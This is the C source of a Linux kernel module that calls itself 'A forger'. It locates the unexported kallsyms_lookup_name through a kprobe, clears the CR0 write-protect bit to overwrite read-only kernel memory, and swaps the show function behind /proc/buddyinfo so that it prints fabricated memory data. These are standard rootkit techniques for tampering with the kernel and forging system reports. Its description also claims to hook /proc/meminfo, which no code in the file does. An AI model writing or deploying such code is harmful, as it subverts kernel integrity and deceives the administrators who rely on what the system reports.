// SPDX-License-Identifier: GPL-2.0
/* Two files that show what we like: their seq_file's show function is another one now. */
#include <asm/processor-flags.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/string.h>

/* kallsyms_lookup_name() is exported to nobody (since v5.7); a kprobe knows where it is. */
static unsigned long address_of(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(name);
}

/* Text is read-only for the kernel, too, while CR0.WP is set. */
static void write_anywhere(void *at, const void *bytes, size_t length)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r" (cr0));
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	memcpy(at, bytes, length);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	local_irq_restore(flags);
}

static int show(struct seq_file *file, void *unused)
{
	seq_puts(file, "Node 0, zone    DMA32      1      0      0      0      0\n");
	return 0;
}

static int __init work_init(void)
{
	struct seq_operations *ops = (void *)address_of("fragmentation_op");
	void *mine = show;

	if (!ops)
		return -ENOENT;
	write_anywhere(&ops->show, &mine, sizeof(mine));
	return 0;
}

static void __exit work_exit(void)
{
}

module_init(work_init);
module_exit(work_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A forger: hooks the functions behind /proc/buddyinfo and /proc/meminfo");
